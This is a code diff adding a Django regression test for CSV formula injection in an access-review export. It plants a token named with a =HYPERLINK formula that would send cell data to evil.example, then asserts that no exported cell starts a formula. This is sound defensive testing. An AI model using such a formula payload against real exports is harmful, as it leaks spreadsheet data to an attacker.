@@ -2,6 +2,7 @@
 dormant, what expires, outside accounts and recent grants; a manager signs it. Scoped: a
 manager reviews the accounts it manages, never another site's."""
 
+import csv as csv_module
 import datetime as dt
 import io
 
@@ -91,3 +92,17 @@ def test_only_managers_review(p1):
     assert operator.get("/access-review/").status_code == 403
     assert operator.post("/access-review/", {"revoked": "x"}).status_code == 403
     assert AccessReview.objects.count() == 0
+
+
+def test_no_cell_of_the_csv_starts_a_formula(plant):
+    """Hostile review: a token named ``=HYPERLINK(...)`` came out as a live formula."""
+    vendor = User.objects.get(username="vendor_p1")
+    make_token(
+        vendor,
+        name='=HYPERLINK("http://evil.example/?"&A1,"x")',
+        expires_at=timezone.now() + dt.timedelta(days=2),
+    )
+    rows = list(csv_module.reader(io.StringIO(plant.get("/access-review/?format=csv").text)))
+    named = [cell for row in rows for cell in row if "HYPERLINK" in cell]
+    assert named  # listed, as text
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
